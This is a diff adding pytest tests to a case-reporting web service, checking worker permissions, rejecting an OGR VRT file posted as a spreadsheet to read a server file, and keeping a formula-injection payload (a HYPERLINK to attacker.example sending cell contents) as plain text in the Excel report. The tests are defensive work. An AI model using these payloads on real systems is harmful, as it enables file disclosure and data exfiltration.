@@ -8,7 +8,7 @@ from __future__ import annotations
 
 import json
 import uuid
-from datetime import UTC, date, datetime
+from datetime import UTC, date, datetime, timedelta
 
 import httpx
 import pytest
@@ -143,7 +143,19 @@ def test_reporting_is_checked(server, place, conn):
         assert unknown.status_code == 422 and "categories are" in unknown.json()["detail"]
         assert report(w, place, at=None).status_code == 422  # nowhere
         assert report(p, place).status_code == 403  # planners read
+        # a 12345 hotline case, its ticket number and a report dated weeks back are the leader's to enter: a
+        # worker's made-up ticket would shadow the real one at the import, and the rates count from the time
+        assert report(w, place, source="hotline").status_code == 403
+        assert report(w, place, ticket_no="202612070200").status_code == 403
+        month_ago = (datetime.now(UTC) - timedelta(days=30)).isoformat()
+        backdated = report(w, place, reported_at=month_ago)
+        assert backdated.status_code == 403 and "at most 7 days back" in backdated.json()["detail"], backdated.text
         assert fingerprint(conn, place["slug"]) == before
+        assert report(w, place, reported_at=(datetime.now(UTC) - timedelta(days=2)).isoformat()).status_code == 201
+        with as_(server, place, "leader") as lead:
+            r = report(lead, place, source="hotline", ticket_no=f"T-{uuid.uuid4().hex[:8]}", reported_at=month_ago)
+            assert r.status_code == 201 and r.json()["source"] == "hotline", r.text
+        before = fingerprint(conn, place["slug"])
         # a worker reports anywhere in the jurisdiction, and sees what they reported
         r = report(w, place, grid=GRID_1, building=None)
         assert r.status_code == 201 and r.json()["grid"] == GRID_1
@@ -218,6 +230,17 @@ def test_tickets_are_uploaded_as_the_command_line_imports_them(server, place, tm
         bad = lead.post(url, content=b"\xff\xfe\x00garbage", headers={
             "Content-Type": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"})
         assert bad.status_code == 422 and "not an Excel workbook" in bad.json()["detail"]
+        # an OGR VRT sent as a workbook would have GDAL read a file of the server's into the problems
+        secret = tmp_path / "secret.csv"
+        secret.write_text("secret-line\n")
+        vrt = (f'<OGRVRTDataSource><OGRVRTLayer name="t"><SrcDataSource>CSV:{secret}</SrcDataSource>'
+               '<SrcLayer>secret</SrcLayer></OGRVRTLayer></OGRVRTDataSource>')
+        ods = {"Content-Type": "application/vnd.oasis.opendocument.spreadsheet"}
+        r = lead.post(url, content=vrt.encode(), headers=ods)
+        assert r.status_code == 422 and "not an OpenDocument spreadsheet" in r.json()["detail"], r.text
+        assert "secret-line" not in r.text
+        r = lead.post(url, params={"encoding": "hex"}, content=data, headers={"Content-Type": "text/csv"})
+        assert r.status_code == 422 and "unknown encoding hex" in r.json()["detail"], r.text
         assert fingerprint(conn, slug) == before
 
 
@@ -459,3 +482,22 @@ def test_the_monthly_report_as_excel_holds_the_kpi_numbers(server, place, cli, t
     # the command line writes the same workbook
     cli("cases", "kpi", slug, "--from", "2025-03-01", "--to", "2025-03-31", "--xlsx", str(tmp_path / "cli.xlsx"))
     assert load_workbook(tmp_path / "cli.xlsx")["总体"]["A1"].value == overall["A1"].value
+
+
+def test_text_in_the_excel_report_is_never_a_formula(server, place):
+    """A description typed by whoever reports reaches the leader's workbook as text: as a formula,
+    Excel would run it on opening (a HYPERLINK sending the sheet's cells away)."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    slug = place["slug"]
+    formula = '=HYPERLINK("http://attacker.example/?"&B2&C2,"查看照片")'
+    with as_(server, place, "leader") as lead:
+        r = report(lead, place, description=formula, reported_at="2024-06-15T10:00:00+08:00")
+        assert r.status_code == 201, r.text
+        got = lead.get(f"/cases/{slug}/kpi.xlsx", params={"from": "2024-06-01", "to": "2024-06-30"})
+    assert got.status_code == 200, got.text
+    cells = [c for ws in load_workbook(BytesIO(got.content)) for row in ws.iter_rows() for c in row]
+    assert formula in [c.value for c in cells]  # shown as the text it is
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
